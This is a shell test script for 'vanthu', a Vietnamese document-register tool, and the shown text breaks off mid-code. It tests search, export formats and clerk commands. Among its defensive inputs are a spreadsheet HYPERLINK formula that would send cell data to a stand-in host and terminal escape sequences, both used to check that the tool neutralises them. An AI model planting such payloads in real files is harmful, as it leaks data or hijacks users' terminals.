#!/bin/sh
# run.sh - the clerk's tool `vanthu` end to end on a sample register.
#
# store_load -S registers fixed sample documents with a test clock; every
# command is then run through build/vanthu and its output compared with
# what a clerk must see.  CSV is read back with Python's csv module, XLSX
# unzipped with zipfile and its sheet XML read, so the ND30 column order is
# checked in the files themselves.
top=${VANTHU_TOP:-$(cd "$(dirname "$0")/../.." && pwd)}
build=${VANTHU_BUILD:-build}
case $build in /*) ;; *) build=$top/$build ;; esac
V=$build/vanthu
LOAD=$build/tests/tools/store_load
tmp=$(mktemp -d "${TMPDIR:-/tmp}/vanthu-store.XXXXXX") || exit 1
trap 'rm -rf "$tmp"' EXIT INT TERM
n=0
fails=0

ok() {	# ok SENTENCE STATUS
	n=$((n + 1))
	if [ "$2" -eq 0 ]; then
		echo "ok $n - $1"
	else
		echo "not ok $n - $1"
		fails=$((fails + 1))
	fi
}

same() {	# same SENTENCE EXPECTED-FILE ACTUAL-FILE
	if cmp -s "$2" "$3"; then
		ok "$1" 0
	else
		ok "$1" 1
		diff -u "$2" "$3" | sed 's/^/# /' | head -40
	fi
}

# hold_write SECONDS [SQL [DB]]: another process takes the write lock of
# DB (the register), BEGIN IMMEDIATE then SQL left uncommitted, holds it
# SECONDS and rolls back; returns once it holds it, its pid in $holder.
hold_write() {
	rm -f "$tmp/holding"
	python3 - "${3:-$tmp/register.sqlite}" "$tmp/holding" "$1" "${2:-}" <<'PY' &
import sqlite3, sys, time
c = sqlite3.connect(sys.argv[1], isolation_level=None)
c.execute("BEGIN IMMEDIATE")
if sys.argv[4]:
    c.execute(sys.argv[4])
open(sys.argv[2], "w").close()
time.sleep(float(sys.argv[3]))
c.execute("ROLLBACK")
PY
	holder=$!
	i=0
	while [ ! -e "$tmp/holding" ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i + 1)); done
}

mkdir -p "$tmp/spool" "$tmp/out"
cat >"$tmp/vanthu.conf" <<CONF
# the daemon's names the tool does not need are ignored
Socket unix:$tmp/milter.sock
Database $tmp/register.sqlite
Spool    $tmp/spool
Timezone Asia/Ho_Chi_Minh
CONF
vt() { "$V" -c "$tmp/vanthu.conf" "$@"; }

# 1: the sample register
"$LOAD" -d "$tmp/register.sqlite" -s "$tmp/spool" -S >"$tmp/sample.out" 2>&1
cat >"$tmp/exp" <<'EXP'
<s1@bnv.gov.vn> new den/2026/1
<s2@hcm.gov.vn> new den/2026/2
<s3@other.gov.vn> duplicate den/2026/1
<s4@tu.dcs.vn> new den/2026/3
<s5@bqp.gov.vn> skipped -
<s6@hcm.gov.vn> new di/2026/101/QĐ-UBND
EXP
same "the sample messages are numbered, deduplicated and skipped as expected" "$tmp/exp" "$tmp/sample.out"

# 2: list
vt list >"$tmp/act" 2>&1
printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\n' \
  den/2026/1 2026-03-02 15/QĐ-BNV "BỘ NỘI VỤ" "Quyết định: Về việc ban hành Quy chế công tác văn thư" valid registered \
  den/2026/2 2026-03-02 572/UBND-VP "ỦY BAN NHÂN DÂN THÀNH PHỐ HỒ CHÍ MINH" 'Công văn: Về việc gửi, nhận văn bản điện tử, "khẩn"' untrusted registered \
  den/2026/3 2026-03-06 90/KH/TU "TỈNH ỦY BÌNH ĐỊNH" "Kế hoạch: Triển khai chuyển đổi số năm 2026" absent registered \
  di/2026/101/QĐ-UBND 2026-03-07 101/QĐ-UBND "ỦY BAN NHÂN DÂN QUẬN 1" "Quyết định: Phê duyệt kế hoạch năm" valid registered >"$tmp/exp"
same "list prints every registration in book and number order" "$tmp/exp" "$tmp/act"

# 3: list --json
vt list --json >"$tmp/list.json"
python3 - "$tmp/list.json" <<'PY'
import json, sys
a = json.load(open(sys.argv[1], encoding="utf-8"))
want = ["id", "book", "year", "number", "registered_at", "reference", "issuer",
        "date", "type_name", "summary", "signature_verdict", "status",
        "sha256", "message_id"]
assert [e["id"] for e in a] == ["den/2026/1", "den/2026/2", "den/2026/3",
                                "di/2026/101/QĐ-UBND"], a
for e in a:
    for k in want:
        assert k in e, k
e = a[0]
assert e["book"] == "den" and e["year"] == 2026 and e["number"] == 1
assert e["registered_at"] == "2026-03-02T09:00:00+07:00", e["registered_at"]
assert e["reference"] == "15/QĐ-BNV" and e["issuer"] == "BỘ NỘI VỤ"
assert e["date"] == "2026-02-27" and e["type_name"] == "Quyết định"
assert e["summary"] == "Về việc ban hành Quy chế công tác văn thư"
assert e["signature_verdict"] == "valid" and e["status"] == "registered"
assert e["message_id"] == "<s1@bnv.gov.vn>" and e["arrivals"] == 2
assert e["sha256"] == "e05b711b8438f1a9c13dfbbaddc24f6411fac2c00fa319d423f6b13fdc91e07c"
assert a[1]["summary"] == 'Về việc gửi, nhận văn bản điện tử, "khẩn"'
assert a[3]["number"] == 101 and a[3]["symbol"] == "QĐ-UBND"
PY
ok "list --json prints an array with the documented fields and values" $?

# 4: filters
ids() { vt list "$@" --json | python3 -c 'import json,sys; print(" ".join(e["id"] for e in json.load(sys.stdin)))'; }
t=0
[ "$(ids --book di)" = "di/2026/101/QĐ-UBND" ] || t=1
[ "$(ids --book den --year 2026)" = "den/2026/1 den/2026/2 den/2026/3" ] || t=1
[ "$(ids --year 2025)" = "" ] || t=1
[ "$(ids --from 2026-03-02 --to 2026-03-02)" = "den/2026/1 den/2026/2" ] || t=1
[ "$(ids --from 2026-03-03)" = "den/2026/3 di/2026/101/QĐ-UBND" ] || t=1
[ "$(ids --type 'quyet dinh')" = "den/2026/1 di/2026/101/QĐ-UBND" ] || t=1
[ "$(ids --type KH)" = "den/2026/3" ] || t=1
[ "$(ids --issuer 'noi vu')" = "den/2026/1" ] || t=1
[ "$(ids --issuer 'Ủy ban')" = "den/2026/2 di/2026/101/QĐ-UBND" ] || t=1
[ "$(ids --verdict untrusted)" = "den/2026/2" ] || t=1
[ "$(ids --limit 2)" = "den/2026/1 den/2026/2" ] || t=1
ok "list filters by book, year, dates, type, issuer, verdict and limit" $t

# 5: search, with and without diacritics
t=0
[ "$(vt search 'quyết định' | cut -f1 | tr '\n' ' ')" = "den/2026/1 di/2026/101/QĐ-UBND " ] || t=1
[ "$(vt search quyet dinh | cut -f1 | tr '\n' ' ')" = "den/2026/1 di/2026/101/QĐ-UBND " ] || t=1
[ "$(vt search QUYẾT ĐỊNH | cut -f1 | tr '\n' ' ')" = "den/2026/1 di/2026/101/QĐ-UBND " ] || t=1
ok "search finds Vietnamese words typed with or without diacritics" $t
t=0
[ "$(vt search chuyen doi so | cut -f1)" = "den/2026/3" ] || t=1
[ "$(vt search 'văn bản điện tử' | cut -f1)" = "den/2026/2" ] || t=1
[ "$(vt search --book den 'van thu' | cut -f1)" = "den/2026/1" ] || t=1
[ "$(vt search 'qd-bnv' | cut -f1)" = "den/2026/1" ] || t=1
[ "$(vt search 'tài liệu mật' | wc -l)" -eq 0 ] || t=1
[ "$(vt search 'khong co' | wc -l)" -eq 0 ] || t=1
ok "search looks in summary, issuer, reference and text, never in skipped documents" $t
w16="quyet dinh ve viec ban hanh quy che cong tac van thu bo noi vu nguyen"
[ "$(vt search $w16 van | cut -f1)" = "den/2026/1" ] &&
	[ "$(vt search $w16 van khongco | wc -l)" -eq 0 ] &&
	[ "$(vt search khongco $w16 van | wc -l)" -eq 0 ]
ok "search takes every word, the seventeenth and those after it too" $?
vt search '"*(' >"$tmp/act" 2>&1
echo "vanthu: search: nothing to search for in '\"*('" >"$tmp/exp"
same "search refuses a query with no words" "$tmp/exp" "$tmp/act"

# 6: show
vt show den/2026/1 >"$tmp/act" 2>&1
cat >"$tmp/exp" <<'EXP'
Registration: den/2026/1
Status: registered
Registered: 2026-03-02 09:00:00
Reference: 15/QĐ-BNV
Issuer: BỘ NỘI VỤ
Date: 2026-02-27
Type: Quyết định
Summary: Về việc ban hành Quy chế công tác văn thư
Signer: Nguyễn Văn A
Document: Quyết định 15.signed.pdf
Document type: application/pdf
Size: 10
SHA-256: e05b711b8438f1a9c13dfbbaddc24f6411fac2c00fa319d423f6b13fdc91e07c
Signature: valid
Message-ID: <s1@bnv.gov.vn>
From: vanthu@example.gov.vn
Facts:
  date: 2026-02-27 [text, 90]
  issuer: BỘ NỘI VỤ [text, 80]
  number: 15 [text, 90]
  reference: 15/QĐ-BNV [text, 90]
  signer_name: Nguyễn Văn A [text, 60]
  summary: Về việc ban hành Quy chế công tác văn thư [text, 70]
  symbol: QĐ-BNV [text, 90]
  type_code: QĐ [text, 90]
  type_name: Quyết định [text, 90]
Signatures:
  1. valid: Nguyễn Văn A (BỘ NỘI VỤ), signed 2026-02-27T02:00:00Z (timestamp), covers the whole file
Arrivals:
  2026-03-02 09:00:00 new <s1@bnv.gov.vn> from vanthu@example.gov.vn
  2026-03-05 08:00:00 duplicate <s3@other.gov.vn> from vanthu@example.gov.vn
History:
  2026-03-02 09:00:00 milter register: den/2026/1
  2026-03-05 08:00:00 milter arrived-again: <s3@other.gov.vn>
EXP
same "show prints the entry, its facts with sources, signatures, arrivals and history" "$tmp/exp" "$tmp/act"
# What a sender wrote may hold escape sequences and line breaks: on the
# clerk's terminal they are U+FFFD and spaces (a copy of the register).
cp "$tmp/register.sqlite" "$tmp/esc.sqlite"
sqlite3 "$tmp/esc.sqlite" "UPDATE messages SET message_id = '<s1' || char(27) || '[2J' || char(27) || ']0;x' || char(7) || '@bnv.gov.vn>' WHERE message_id = '<s1@bnv.gov.vn>';
    UPDATE doc_facts SET value = 'Về việc' || char(10) || 'ban hành' || char(9) || 'Quy chế' || char(155) || '1m'
    WHERE fact = 'summary' AND value LIKE 'Về việc ban hành%';
    UPDATE registrations SET summary = 'Về việc' || char(13) || char(10) || 'ban hành' || char(27) || '[31m'
    WHERE book = 'den' AND number = 1"
"$V" -d "$tmp/esc.sqlite" show den/2026/1 >"$tmp/act" 2>&1
"$V" -d "$tmp/esc.sqlite" list >>"$tmp/act" 2>&1
! LC_ALL=C grep -q "$(printf '[\001-\010\013-\037\177]')" "$tmp/act" &&
	! LC_ALL=C grep -q "$(printf '\302[\200-\237]')" "$tmp/act" &&
	grep -qxF "Message-ID: <s1�[2J�]0;x�@bnv.gov.vn>" "$tmp/act" &&
	grep -qxF "  summary: Về việc ban hành Quy chế�1m [text, 70]" "$tmp/act" &&
	[ "$(grep -c '^den/2026/' "$tmp/act")" -eq 3 ] &&
	grep -qF "$(printf 'den/2026/1\t2026-03-02\t15/QĐ-BNV\tBỘ NỘI VỤ\tQuyết định: Về việc  ban hành�[31m\tvalid\tregistered')" "$tmp/act"
ok "show and list print a sender's control characters as U+FFFD, line breaks and tabs as spaces" $?

# 7: get
vt get den/2026/2 -o "$tmp/out" >"$tmp/act" 2>&1
echo "$tmp/out/_.._CV 572.pdf" >"$tmp/exp"
t=0
cmp -s "$tmp/exp" "$tmp/act" || t=1
[ "$(cat "$tmp/out/_.._CV 572.pdf")" = "sample two" ] || t=1
[ "$(ls "$tmp/out" | wc -l)" -eq 1 ] || t=1
ok "get writes the original file under its decoded name, made safe" $t
vt get den/2026/2 -o "$tmp/out" >"$tmp/act" 2>&1
t=$?
echo "vanthu: get: $tmp/out/_.._CV 572.pdf: exists already, not overwritten" >"$tmp/exp"
[ $t -eq 1 ] && cmp -s "$tmp/exp" "$tmp/act"
ok "get never overwrites a file" $?
vt get den/2026/1 -o "$tmp/out" >/dev/null 2>&1
[ "$(cat "$tmp/out/Quyết định 15.signed.pdf")" = "sample one" ]
ok "get keeps a Vietnamese file name" $?
sha=$(printf 'sample four' | sha256sum | cut -c1-64)
printf 'tampered' >"$tmp/spool/$(echo "$sha" | cut -c1-2)/$(echo "$sha" | cut -c3-4)/$sha"
vt get den/2026/3 -o "$tmp/out" >"$tmp/act" 2>&1
t=$?
[ $t -eq 1 ] && grep -q "damaged in the spool" "$tmp/act" && [ ! -e "$tmp/out/Kế hoạch 90.docx" ]
ok "get refuses a spool file whose SHA-256 does not match" $?

# 8: export CSV, read back
vt export --book den --year 2026 --format csv -o "$tmp/den.csv" >"$tmp/act" 2>&1
python3 - "$tmp/den.csv" <<'PY'
import csv, sys
raw = open(sys.argv[1], "rb").read()
assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")))
assert rows[0] == ["Ngày đến", "Số đến", "Tác giả", "Số, ký hiệu",
    "Ngày tháng văn bản", "Tên loại và trích yếu nội dung",
    "Đơn vị hoặc người nhận", "Ngày chuyển", "Ký nhận", "Ghi chú"], rows[0]
assert [r[1] for r in rows[1:]] == ["1", "2", "3"], rows
assert rows[1] == ["02/03/2026", "1", "BỘ NỘI VỤ", "15/QĐ-BNV", "27/02/2026",
    "Quyết định: Về việc ban hành Quy chế công tác văn thư", "", "", "",
    "Nhận 2 lần"], rows[1]
assert rows[2][5] == 'Công văn: Về việc gửi, nhận văn bản điện tử, "khẩn"'
assert len(rows) == 4
PY
ok "CSV export reads back with the ND30 incoming columns in order" $?
cp "$tmp/register.sqlite" "$tmp/inj.sqlite"
"$V" -d "$tmp/inj.sqlite" assign den/2026/2 --notes '=HYPERLINK("http://x.example/?"&A1,"Mở")' >/dev/null 2>&1 &&
	"$V" -d "$tmp/inj.sqlite" assign den/2026/3 --notes '-2+3' >/dev/null 2>&1 &&
	"$V" -d "$tmp/inj.sqlite" export --book den --year 2026 --format csv -o "$tmp/inj.csv" >/dev/null 2>&1
python3 - "$tmp/inj.csv" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")))
assert rows[2][9] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"Mở\")", rows[2][9]
assert rows[3][9] == "'-2+3", rows[3][9]
assert rows[1][9] == "Nhận 2 lần", rows[1][9]
PY
ok "a CSV cell a spreadsheet would read as a formula is written after an apostrophe, as text" $?

# 9: export XLSX, unzipped and read
vt export --book den --year 2026 --format xlsx -o "$tmp/den.xlsx" >"$tmp/act" 2>&1
python3 - "$tmp/den.xlsx" <<'PY'
import re, sys, zipfile
import xml.etree.ElementTree as ET
ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
z = zipfile.ZipFile(sys.argv[1])
shared = []
if "xl/sharedStrings.xml" in z.namelist():
    for si in ET.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", ns):
        shared.append("".join(t.text or "" for t in si.iter("{%s}t" % ns["m"])))
sheet = ET.fromstring(z.read("xl/worksheets/sheet1.xml"))
rows = []
for row in sheet.find("m:sheetData", ns).findall("m:row", ns):
    cells = {}
    for c in row.findall("m:c", ns):
        col = re.match(r"[A-Z]+", c.get("r")).group(0)
        v = c.find("m:v", ns)
        if c.get("t") == "s":
            cells[col] = shared[int(v.text)]
        elif c.get("t") == "inlineStr":
            cells[col] = "".join(t.text or "" for t in c.iter("{%s}t" % ns["m"]))
        else:
            cells[col] = v.text if v is not None else ""
    rows.append([cells.get(k, "") for k in "ABCDEFGHIJ"])
assert rows[0] == ["Ngày đến", "Số đến", "Tác giả", "Số, ký hiệu",
    "Ngày tháng văn bản", "Tên loại và trích yếu nội dung",
    "Đơn vị hoặc người nhận", "Ngày chuyển", "Ký nhận", "Ghi chú"], rows[0]
assert [r[1] for r in rows[1:]] == ["1", "2", "3"], rows
assert rows[3][2] == "TỈNH ỦY BÌNH ĐỊNH" and rows[3][3] == "90/KH/TU"
setup = sheet.find("m:pageSetup", ns)
assert setup.get("orientation") == "landscape" and setup.get("paperSize") == "9"
PY
ok "XLSX export unzips to a sheet with the ND30 columns in order, A4 landscape" $?

# What a sender wrote, as Excel must read it: U+FFFE is not XML, a cell
# holds at most 32,767 characters, and "_x0041_" is Excel's escape of A.
cp "$tmp/register.sqlite" "$tmp/xl.sqlite"
sqlite3 "$tmp/xl.sqlite" "UPDATE registrations SET summary = 'Về' || char(65534) || 'việc' || char(1) || ' _x0041_'
    WHERE book = 'den' AND number = 1;
    UPDATE registrations SET issuer = replace(hex(zeroblob(20000)), '0', 'Ủ') WHERE book = 'den' AND number = 2"
"$V" -d "$tmp/xl.sqlite" export --book den --year 2026 --format xlsx -o "$tmp/xl.xlsx" >"$tmp/act" 2>&1
python3 - "$tmp/xl.xlsx" <<'PY'
import re, sys, zipfile
import xml.etree.ElementTree as ET
ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
z = zipfile.ZipFile(sys.argv[1])
for n in z.namelist():
    if n.endswith(".xml") or n.endswith(".rels"):
        ET.fromstring(z.read(n))
unx = lambda t: re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), t)
joined = lambda e: unx("".join(t.text or "" for t in e.iter("{%s}t" % ns["m"])))
shared = []
if "xl/sharedStrings.xml" in z.namelist():
    shared = [joined(si) for si in
              ET.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", ns)]
sheet = ET.fromstring(z.read("xl/worksheets/sheet1.xml"))
cells = {c.get("r"): c for c in sheet.iter("{%s}c" % ns["m"])}
# A cell's text, from the shared table or written in the cell itself.
text = lambda r: (joined(cells[r]) if cells[r].get("t") == "inlineStr"
                  else shared[int(cells[r].find("m:v", ns).text)])
assert text("F2") == "Quyết định: Về\ufffdviệc\x01 _x0041_", repr(text("F2"))
assert "C3" in cells, "the long issuer's cell is missing"
assert len(text("C3")) == 32767 and text("C3") == "Ủ" * 32766 + "…"
assert text("D3") == "572/UBND-VP"
PY
[ $? -eq 0 ] && [ ! -s "$tmp/act" ]
ok "XLSX export gives Excel only what it can read: no U+FFFE, cells cut at 32,767 characters, escapes kept as text" $?

vt export --book den --year 2026 --format xlsx >"$tmp/stdout.xlsx" 2>"$tmp/act"
python3 -c 'import sys, zipfile; z = zipfile.ZipFile(sys.argv[1]); assert "xl/worksheets/sheet1.xml" in z.namelist()' "$tmp/stdout.xlsx" &&
    [ ! -s "$tmp/act" ]
ok "XLSX export can go to standard output" $?

# The same workbooks as a reader this project did not write opens them
# (Debian's openpyxl; it leaves Excel's _xHHHH_ escapes to its caller).
PY=/usr/bin/python3
[ -x "$PY" ] || PY=python3
$PY - "$tmp/den.xlsx" "$tmp/xl.xlsx" "$tmp/stdout.xlsx" <<'PY'
import re, sys, openpyxl
unx = lambda t: re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), t)
for path in (sys.argv[1], sys.argv[3]):
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["2026"], wb.sheetnames
    ws = wb["2026"]
    rows = [[c.value for c in r] for r in ws.iter_rows()]
    assert rows[0] == ["Ngày đến", "Số đến", "Tác giả", "Số, ký hiệu",
        "Ngày tháng văn bản", "Tên loại và trích yếu nội dung",
        "Đơn vị hoặc người nhận", "Ngày chuyển", "Ký nhận", "Ghi chú"], rows[0]
    assert [r[1] for r in rows[1:]] == [1, 2, 3], rows     # numbers, not text
    assert rows[3][2] == "TỈNH ỦY BÌNH ĐỊNH" and rows[3][3] == "90/KH/TU", rows[3]
    assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize) == 9
    assert ws.print_title_rows == "$1:$1", ws.print_title_rows
    assert ws.oddHeader.center.text == "Sổ đăng ký văn bản đến - 2026", ws.oddHeader.center.text
ws = openpyxl.load_workbook(sys.argv[2])["2026"]
assert unx(ws["F2"].value) == "Quyết định: Về\ufffdviệc\x01 _x0041_", repr(ws["F2"].value)
assert ws["C3"].value == "Ủ" * 32766 + "…" and ws["D3"].value == "572/UBND-VP"
PY
ok "openpyxl opens the XLSX exports and reads the same cells, numbers, print title and page set-up" $?

# 10: HTML and the outgoing book
vt export --book den --year 2026 --format html >"$tmp/den.html" 2>&1
python3 - "$tmp/den.html" <<'PY'
import sys, html.parser
class P(html.parser.HTMLParser):
    def __init__(s):
        super().__init__(); s.th = []; s.rows = []; s.cell = None
    def handle_starttag(s, tag, a):
        if tag in ("th", "td"): s.cell = ""
        if tag == "tr": s.rows.append([])
    def handle_endtag(s, tag):
        if tag in ("th", "td"): s.rows[-1].append(s.cell); s.cell = None
    def handle_data(s, d):
        if s.cell is not None: s.cell += d
text = open(sys.argv[1], encoding="utf-8").read()
assert "@page { size: A4 landscape;" in text
p = P(); p.feed(text)
assert p.rows[0] == ["Ngày đến", "Số đến", "Tác giả", "Số, ký hiệu",
    "Ngày tháng văn bản", "Tên loại và trích yếu nội dung",
    "Đơn vị hoặc người nhận", "Ngày chuyển", "Ký nhận", "Ghi chú"]
assert [r[1] for r in p.rows[1:]] == ["1", "2", "3"]
assert p.rows[2][5] == 'Công văn: Về việc gửi, nhận văn bản điện tử, "khẩn"'
PY
ok "HTML export is a printable A4 landscape table with the ND30 columns" $?
vt export --book di --year 2026 --format csv >"$tmp/di.csv"
python3 - "$tmp/di.csv" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")))
assert rows[0] == ["Số, ký hiệu", "Ngày tháng văn bản",
    "Tên loại và trích yếu nội dung", "Người ký", "Nơi nhận",
    "Đơn vị, người nhận bản lưu", "Số lượng bản", "Ngày chuyển", "Ký nhận",
    "Ghi chú"], rows[0]
assert rows[1] == ["101/QĐ-UBND", "07/03/2026",
    "Quyết định: Phê duyệt kế hoạch năm", "Trần Thị B", "vanthu@hcm.gov.vn",
    "", "", "07/03/2026", "", ""], rows[1]
PY
ok "the outgoing book exports with the ND30 outgoing columns and the recipients" $?
vt export --book den --year 2026 --format pdf >"$tmp/act" 2>&1
echo "vanthu: export: unknown export format 'pdf': use csv, html or xlsx" >"$tmp/exp"
same "export names the formats it knows" "$tmp/exp" "$tmp/act"

# 11: assign and cancel
vt assign den/2026/2 --lead "Phòng Tổ chức" --coop "Văn phòng" --due 2026-02-30 >"$tmp/act" 2>&1
echo "vanthu: assign: bad date '2026-02-30': expected YYYY-MM-DD" >"$tmp/exp"
same "assign refuses a date that does not exist" "$tmp/exp" "$tmp/act"
vt assign den/2026/2 --lead "Phòng Tổ chức" --coop "Văn phòng" --due 2026-03-20 >"$tmp/act" 2>&1
t=$?
echo "den/2026/2 assigned" >"$tmp/exp"
cmp -s "$tmp/exp" "$tmp/act" && [ $t -eq 0 ] &&
vt show den/2026/2 | grep -qx 'Lead: Phòng Tổ chức' &&
vt show den/2026/2 | grep -qx 'Co-operating: Văn phòng' &&
vt show den/2026/2 | grep -qx 'Due: 2026-03-20'
ok "assign records the lead handler, co-operating units and deadline" $?
vt cancel den/2026/3 >"$tmp/act" 2>&1
t=$?
[ $t -eq 2 ] && grep -q "usage: vanthu cancel ID --reason TEXT" "$tmp/act"
ok "cancel needs a reason" $?
vt cancel den/2026/3 --reason "Gửi nhầm địa chỉ" >"$tmp/act" 2>&1
echo "den/2026/3 cancelled; its number stays taken" >"$tmp/exp"
same "cancel keeps the number" "$tmp/exp" "$tmp/act"
vt cancel den/2026/3 --reason "again" >"$tmp/act" 2>&1
echo "vanthu: cancel: den/2026/3 is cancelled" >"$tmp/exp"
same "a cancelled entry cannot be cancelled again" "$tmp/exp" "$tmp/act"
vt export --book den --year 2026 --format csv >"$tmp/den2.csv"
python3 - "$tmp/den2.csv" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")))
assert [r[1] for r in rows[1:]] == ["1", "2", "3"]
assert rows[2][6] == "Phòng Tổ chức; phối hợp: Văn phòng", rows[2]
assert rows[2][7] != "", rows[2]
assert rows[3][9] == "Đã hủy: Gửi nhầm địa chỉ", rows[3]
PY
ok "the export shows the routing and the cancelled entry under its number" $?
[ "$(vt list --status cancelled | cut -f1)" = "den/2026/3" ]
ok "list shows cancelled entries on request" $?
me=$(id -un)
sqlite3 "$tmp/register.sqlite" "SELECT actor || ' ' || action || ' ' || detail FROM audit WHERE action IN ('assign','cancel') ORDER BY id" >"$tmp/act"
cat >"$tmp/exp" <<EXP
$me assign $V -c $tmp/vanthu.conf assign den/2026/2 --lead 'Phòng Tổ chức' --coop 'Văn phòng' --due 2026-03-20
$me cancel $V -c $tmp/vanthu.conf cancel den/2026/3 --reason 'Gửi nhầm địa chỉ'
EXP
same "the audit log keeps each clerk's command" "$tmp/exp" "$tmp/act"
# Each argument as the clerk gave it: a note that reads like an option,
# an emptied field and a quote cannot be mistaken for something else.
cp "$tmp/register.sqlite" "$tmp/audit.sqlite"
"$V" -d "$tmp/audit.sqlite" assign den/2026/1 --notes "Chuyển gấp --due 2026-01-01" \
    --lead "" --coop "Phòng Kế hoạch's" >/dev/null 2>&1
sqlite3 "$tmp/audit.sqlite" "SELECT detail FROM audit WHERE action = 'assign' ORDER BY id DESC LIMIT 1" >"$tmp/act"
cat >"$tmp/exp" <<EXP
$V -d $tmp/audit.sqlite assign den/2026/1 --notes 'Chuyển gấp --due 2026-01-01' --lead '' --coop 'Phòng Kế hoạch'\\''s'
EXP
same "the audit log quotes each argument that needs it, as a shell would read it" "$tmp/exp" "$tmp/act"

# 12: books and stats
vt books add mat --name "Sổ văn bản mật" --direction in >"$tmp/act" 2>&1
vt books >>"$tmp/act" 2>&1
vt books add mat --name "again" >>"$tmp/act" 2>&1
vt books add "Bad/Code" --name x >>"$tmp/act" 2>&1
vt books add blank --name "  " >>"$tmp/act" 2>&1
vt books add tab --name "$(printf 'So\tmat')" >>"$tmp/act" 2>&1
printf 'den\tin\tSổ đăng ký văn bản đến\ndi\tout\tSổ đăng ký văn bản đi\nmat\tin\tSổ văn bản mật\n' >"$tmp/exp"
echo "vanthu: books: book mat exists already" >>"$tmp/exp"
echo "vanthu: books: bad book code 'Bad/Code': use 1 to 31 of a-z, 0-9, _ and -" >>"$tmp/exp"
echo "vanthu: books: a book's name is 1 to 200 bytes of text on one line, not blank" >>"$tmp/exp"
echo "vanthu: books: a book's name is 1 to 200 bytes of text on one line, not blank" >>"$tmp/exp"
same "books lists the books and an administrator can add one, with a name that is text" "$tmp/exp" "$tmp/act"
vt stats --year 2026 >"$tmp/act" 2>&1
cat >"$tmp/exp" <<'EXP'
registered 3
cancelled 1
duplicates 1
skipped 1
messages 6
book.den 2
book.di 1
book.mat 0
signature.untrusted 1
signature.valid 2
EXP
same "stats counts the year's register" "$tmp/exp" "$tmp/act"

# 13: clear messages
: >"$tmp/act"
vt show den/2026/9 >>"$tmp/act" 2>&1; echo "rc=$?" >>"$tmp/act"
vt show den/26/1 >>"$tmp/act" 2>&1; echo "rc=$?" >>"$tmp/act"
vt list --from 2026-13-01 >>"$tmp/act" 2>&1; echo "rc=$?" >>"$tmp/act"
vt list --year 26 >>"$tmp/act" 2>&1; echo "rc=$?" >>"$tmp/act"
"$V" -d "$tmp/none.sqlite" list >>"$tmp/act" 2>&1; echo "rc=$?" >>"$tmp/act"
vt frobnicate >/dev/null 2>>"$tmp/act"; echo "rc=$?" >>"$tmp/act"
cat >"$tmp/exp" <<EXP
vanthu: show: no registration den/2026/9
rc=1
vanthu: show: bad registration id 'den/26/1': expected book/year/number such as den/2026/123
rc=2
vanthu: list: bad date '2026-13-01': expected YYYY-MM-DD
rc=2
vanthu: list: bad year '26': expected four digits such as 2026
rc=2
vanthu: list: $tmp/none.sqlite: no such database
rc=1
vanthu: frobnicate: unknown command
EXP
sed -i '/^usage:/d; /^       vanthu/d' "$tmp/act"
echo "rc=2" >>"$tmp/exp"
same "unknown ids, bad dates, a missing database and unknown commands get clear messages" "$tmp/exp" "$tmp/act"
t=0
for c in "show %s" "get %s -o $tmp/out" "assign %s --lead X" "cancel %s --reason X"; do
	for id in den/2026/0 den/99999999999999999999/1 den/2026/99999999999999999999 den/2026/01; do
		# shellcheck disable=SC2086
		vt $(printf "$c" "$id") >"$tmp/act" 2>&1
		[ $? -eq 2 ] && grep -qxF "vanthu: ${c%% *}: bad registration id '$id': expected book/year/number such as den/2026/123" "$tmp/act" || t=1
	done
done
ok "a malformed id is bad usage (status 2) for show, get, assign and cancel" $t
printf 'not a database at all, just text\n%.0s' $(seq 200) >"$tmp/junk.sqlite"
"$V" -d "$tmp/junk.sqlite" list >"$tmp/act" 2>&1
echo "vanthu: list: $tmp/junk.sqlite: file is not a database" >"$tmp/exp"
same "a file that is not a register is named as such" "$tmp/exp" "$tmp/act"

printf 'Database %s\nTimezone Mars/Base\n' "$tmp/register.sqlite" >"$tmp/bad.conf"
"$V" -c "$tmp/bad.conf" list >"$tmp/act" 2>&1
echo "vanthu: list: $tmp/bad.conf:2: Timezone: unknown time zone \"Mars/Base\"" >"$tmp/exp"
same "a bad configuration is refused with its file and line" "$tmp/exp" "$tmp/act"

# Output that cannot be written is a failure, said once; a reader that
# stops early (vanthu list | head -1) is not.
if [ -w /dev/full ]; then
	: >"$tmp/act"
	for c in "list" "list --json" "search quyet dinh" "show den/2026/1" "stats" "books"; do
		# shellcheck disable=SC2086
		vt $c >/dev/full 2>>"$tmp/act"
		echo "rc=$?" >>"$tmp/act"
	done
	mkdir -p "$tmp/full"
	vt get den/2026/1 -o "$tmp/full" >/dev/full 2>>"$tmp/act"
	echo "rc=$?" >>"$tmp/act"
	vt export --book den --year 2026 --format csv >/dev/full 2>>"$tmp/act"
	echo "rc=$?" >>"$tmp/act"
	for c in list list search show stats books get; do
		echo "vanthu: $c: writing standard output: No space left on device"
		echo "rc=1"
	done >"$tmp/exp"
	printf 'vanthu: export: writing standard output: No space left on device\nrc=1\n' >>"$tmp/exp"
	same "a command whose output cannot be written says so and exits 1" "$tmp/exp" "$tmp/act"
fi
python3 - "$V" "$tmp/vanthu.conf" <<'PY'
import os, signal, subprocess, sys
for args in (["list"], ["list", "--json"], ["show", "den/2026/1"],
             ["export", "--book", "den", "--year", "2026", "--format", "csv"]):
    r, w = os.pipe()
    os.close(r)
    p = subprocess.run([sys.argv[1], "-c", sys.argv[2]] + args, stdout=w,
                       stderr=subprocess.PIPE, restore_signals=False,
